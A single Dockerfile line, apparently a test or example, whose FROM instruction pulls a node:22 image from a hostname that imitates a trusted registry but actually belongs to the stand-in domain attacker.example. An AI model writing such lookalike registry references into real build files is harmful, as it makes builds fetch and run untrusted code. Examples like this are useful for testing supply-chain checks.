FROM registry.example.com.attacker.example/node:22
